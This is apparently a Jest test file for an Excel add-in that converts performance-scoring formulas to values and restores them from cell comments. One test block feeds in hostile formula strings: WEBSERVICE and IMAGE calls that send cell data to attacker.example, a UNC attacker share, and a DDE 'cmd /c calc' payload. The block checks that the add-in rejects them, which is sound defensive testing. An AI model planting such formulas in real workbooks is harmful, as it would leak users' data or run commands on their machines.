import { digestOf } from '../../src/excel/pe-formula';
import { formulasToValues, takeSnapshot, valuesToFormulas } from '../../src/excel';
import { setResult, type EmulatedHost, type HostSheetData } from '../../workbench/host';
import { cost, open, problemOf } from './support';

jest.setTimeout(60_000);

const SHEET: HostSheetData = {
  name: '表',
  rows: [
    [10, '≥95%', '90%', 9.47],
    [10, '≥95%', '提高', { fault: '#N/A' }],
    [5, '=', null, '达成'],
    [5, null, null, 15],
  ],
  formulas: [
    [null, null, null, '=PE.SCORE(A1,B1,C1)'],
    [null, null, null, '=PE.SCORE(A2,B2,C2)'],
    [null, null, null, '=IF(A3>0,PE.GRADE(A3),"PE.SCORE(")'],
    [null, null, null, '=SUM(A1:A2)'],
  ],
};

function start(selected = '表!A:D'): EmulatedHost {
  const host = open([SHEET]);
  host.person.select(selected);
  return host;
}

const shown = (host: EmulatedHost) =>
  [1, 2, 3, 4].map((row) => {
    const { formula, value } = host.person.cell(`表!D${String(row)}`);
    return formula ?? value;
  });

it('puts values in the place of PE formulas, keeps errors and other formulas, and goes back', async () => {
  const host = start();
  expect(await formulasToValues()).toEqual({ converted: 2, left: 1 });
  expect(shown(host)).toEqual([9.47, '=PE.SCORE(A2,B2,C2)', '达成', '=SUM(A1:A2)']);
  expect(await valuesToFormulas()).toBe(2);
  expect(shown(host)).toEqual((SHEET.formulas ?? []).map((row) => row?.[3]));
  expect(host.save().sheets[0]?.comments ?? []).toEqual([]);
  expect(await valuesToFormulas()).toBe(0);
});

it('keeps the formula in words a person can read', async () => {
  const host = start('表!D1');
  await formulasToValues();
  expect(host.save().sheets[0]?.comments).toEqual([
    expect.objectContaining({
      row: 0,
      column: 3,
      content: expect.stringMatching(
        /^由绩效评价公式转为数值：\n=PE\.SCORE\(A1,B1,C1\)\n\[R1C1 1x1 [0-9a-z]+\] =PE\.SCORE\(RC\[-3\],RC\[-2\],RC\[-1\]\)$/,
      ) as string,
    }),
  ]);
});

it('takes the selection’s own sheet, whichever Excel calls the active one (office-js #3148)', async () => {
  const host = open([SHEET, { ...SHEET, name: '后面' }]);
  host.person.select('表!D1');
  const { getItem } = Excel.WorksheetCollection.prototype;
  jest.spyOn(Excel.WorksheetCollection.prototype, 'getActiveWorksheet').mockImplementation(function (
    this: Excel.WorksheetCollection,
  ) {
    return getItem.call(this, '后面');
  });
  expect(await formulasToValues()).toEqual({ converted: 1, left: 0 });
  expect([host.person.cell('表!D1').formula, host.person.cell('后面!D1').formula]).toEqual([
    null,
    '=PE.SCORE(A1,B1,C1)',
  ]);
  jest.restoreAllMocks();
});

it('converts what is selected only', async () => {
  const host = start('表!D3');
  expect(await formulasToValues()).toEqual({ converted: 1, left: 0 });
  host.person.select('表!D1');
  expect(await valuesToFormulas()).toBe(0);
  host.person.select('表!D1:D2,D3:D4');
  expect(await valuesToFormulas()).toBe(1);
});

it('leaves a cell with someone’s comment, and one that got a formula since', async () => {
  const host = open([{ ...SHEET, comments: [{ row: 0, column: 3, content: '请核对' }] }]);
  host.person.select('表!D1:D3');
  expect(await formulasToValues()).toEqual({ converted: 1, left: 2 });
  host.person.type('表!D3', '=1+1');
  expect(await valuesToFormulas()).toBe(0);
  expect(shown(host)[2]).toBe('=1+1');
});

describe('notes (备注), which comments know nothing of', () => {
  const notes = [{ row: 0, column: 3, content: '审计说明' }];

  /** office.js of the package is older than notes: this is the collection as later ones have it. */
  function showNotes(): void {
    Object.defineProperty(Excel.Worksheet.prototype, 'notes', {
      configurable: true,
      get(this: Excel.Worksheet) {
        const getLocation = () => this.getRangeByIndexes(0, 3, 1, 1);
        return { load: () => undefined, items: [{ getLocation }] };
      },
    });
  }

  it.each([
    ['shown', '1.18', true],
    ['shown to nobody: Excel is older', '1.17', true],
    ['shown to nobody: office.js is older', '1.18', false],
  ])('%s: its cell keeps note and formula, the others are converted', async (_what, version, isShown) => {
    const host = open([{ ...SHEET, notes }], { requirementSets: { ExcelApi: version } });
    if (isShown) showNotes();
    host.person.select('表!D:D');
    expect(await formulasToValues()).toEqual({ converted: 1, left: 2 });
    expect(shown(host)).toEqual(['=PE.SCORE(A1,B1,C1)', '=PE.SCORE(A2,B2,C2)', '达成', '=SUM(A1:A2)']);
    expect(host.save().sheets[0]).toMatchObject({ notes, comments: [{ row: 2, column: 3 }] });
    expect(await valuesToFormulas()).toBe(1);
    expect(host.save().sheets[0]?.notes).toEqual(notes);
  });

  it('asks for nothing that Excel refuses where it shows them', async () => {
    const host = open([{ ...SHEET, notes }], { requirementSets: { ExcelApi: '1.18' } });
    showNotes();
    host.person.select('表!D:D');
    expect(await cost(host, formulasToValues)).toMatchObject({ syncs: 6, undoSteps: 1 });
  });

  it.each([
    [1, true],
    [20, true],
    [21, false],
  ])('%s refused cells of a column of 41 are passed by: %s', async (count, arePassed) => {
    const rows = Array.from({ length: 41 }, () => [10, '≥1', '1', 10]);
    const formulas = rows.map((_, row) => [null, null, null, `=PE.SCORE(A${row + 1},B${row + 1},C${row + 1})`]);
    const refused = Array.from({ length: count }, (_, index) => ({ row: index * 2, column: 3, content: '注' }));
    const host = open([{ name: '表', rows, formulas, notes: refused }]);
    host.person.select('表!D:D');
    const outcome = await formulasToValues().catch(() => 'failed');
    expect(outcome).toEqual(arePassed ? { converted: 41 - count, left: count } : 'failed');
    expect(host.save().sheets[0]?.notes).toHaveLength(count);
  });
});

it('goes on after a value was refused: the comment that keeps the formula is taken, not a second one', async () => {
  const host = start('表!D1');
  const allowed = host.faults.refuse('Range.values', 'Conflict');
  expect(await problemOf(formulasToValues())).toBe('excel.conflict');
  expect(shown(host)[0]).toBe('=PE.SCORE(A1,B1,C1)');
  allowed();
  expect(await formulasToValues()).toEqual({ converted: 1, left: 0 });
  expect(shown(host)[0]).toBe(9.47);
  expect(host.save().sheets[0]?.comments).toHaveLength(1);
});

describe('a comment that someone else wrote', () => {
  const digest = digestOf([[9.47]]);

  it.each([
    '=WEBSERVICE("http://attacker.example/?"&RC[1])',
    '=WEBSERVICE("http://attacker.example/?"&PE.SCORE(RC[-3],RC[-2],RC[-1]))',
    '=PE.SCORE(RC[-3],HYPERLINK("http://attacker.example/"),RC[-1])',
    "=PE.SCORE('[other.xlsx]Sheet1'!R1C1,RC[-2],RC[-1])",
    '=PE.SCORE([other.xlsx]Sheet1!R1C1,RC[-2],RC[-1])',
    "=PE.SCORE('\\\\attacker\\share\\[x.xlsx]S'!R1C1,RC[-2])",
    "=PE.SCORE(RC[-3],cmd|'/c calc'!R1C1)",
    '=_xlfn.IMAGE("https://attacker.example/?"&PE.GRADE(RC[-1]))',
    '="PE.SCORE(1)"',
  ])('enters nothing: %s', async (formula) => {
    const host = open([
      {
        name: '表',
        rows: [[1, 2, 3, 9.47]],
        comments: [{ row: 0, column: 3, content: `请核对\n=x\n[R1C1 1x1 ${digest}] ${formula}` }],
      },
    ]);
    host.person.select('表!A:D');
    const before = host.save();
    expect(await valuesToFormulas()).toBe(0);
    expect(host.save()).toEqual(before);
  });

  it.each(['30x3', '9999999x99999', '0x0', '1x2'])('clears nothing beyond what was left: %s', async (size) => {
    const content = `请核对\n=x\n[R1C1 ${size} ${digest}] =PE.SCORE(RC[-3],RC[-2],RC[-1])`;
    const host = open([{ name: '表', rows: [[1, 2, 3, 9.47, 5], [6]], comments: [{ row: 0, column: 3, content }] }]);
    host.person.select('表!A:E');
    const before = host.save();
    expect(await valuesToFormulas()).toBe(0);
    expect(host.save()).toEqual(before);
  });
});

it.each(['8', '9.470000000001', '9.47分'])('keeps %s that was typed over the value', async (typed) => {
  const host = start('表!D1');
  await formulasToValues();
  host.person.type('表!D1', typed);
  const before = host.save();
  expect(await valuesToFormulas()).toBe(0);
  expect(host.save()).toEqual(before);
});

it('converts nothing that it would not enter again', async () => {
  const host = open([{ ...SHEET, formulas: [[null, null, null, '=PE.SCORE(A1,B1,WEBSERVICE(C1))']] }]);
  host.person.select('表!D1');
  expect(await formulasToValues()).toEqual({ converted: 0, left: 0 });
});

it('takes the values that a formula fills in beside it along, and gives their cells back', async () => {
  const host = open([{ name: '表', rows: [['文字'], [], []] }]);
  host.person.type('表!B1', '=PE.CRITERION(A1)');
  const sheet = host.book.findSheet('表');
  if (sheet) setResult(host.book, sheet, 0, 1, [['第一步'], ['第二步'], ['']]);
  host.person.select('表!B1');
  expect(await formulasToValues()).toEqual({ converted: 1, left: 0 });
  expect(host.person.values('表!B1:B3')).toEqual([['第一步'], ['第二步'], ['']]);
  expect((await takeSnapshot()).sheets[0]?.rows).toEqual([
    ['文字', '第一步'],
    [null, '第二步'],
  ]);
  expect(await valuesToFormulas()).toBe(1);
  expect(host.person.cell('表!B1').formula).toBe('=PE.CRITERION(A1)');
  expect(host.person.values('表!B2:B3')).toEqual([[''], ['']]);
});

it('is one step to undo and clears nothing', async () => {
  const host = start();
  const before = host.save();
  expect(await cost(host, formulasToValues)).toMatchObject({ undoSteps: 1, cleared: [] });
  host.person.undo();
  expect(host.save()).toEqual(before);
});

it.each<[string, string, (host: EmulatedHost) => void]>([
  ['nothing is used where the person is', 'none', (host) => host.person.select('表!X1:Z9')],
  ['the sheet is protected', 'excel.protected', (host) => host.person.protect('表')],
])('%s', async (_what, id, change) => {
  const host = start();
  change(host);
  const before = host.save();
  expect(await problemOf(formulasToValues())).toBe(id);
  expect(host.save()).toEqual(before);
});

it('refuses a selection of tens of thousands of cells', async () => {
  open([{ name: '表', rows: Array.from({ length: 60_000 }, () => [1]) }]).person.select('表!A:A');
  expect(await problemOf(formulasToValues())).toBe('excel.selection-too-large');
});

it('refuses where the host has no comments to keep formulas in', async () => {
  const host = open([SHEET], { requirementSets: { ExcelApi: '1.9' } });
  host.person.select('表!D1:D3');
  expect(await problemOf(Promise.resolve().then(formulasToValues))).toBe('excel.values-unsupported');
  expect(shown(host)[0]).toBe('=PE.SCORE(A1,B1,C1)');
});
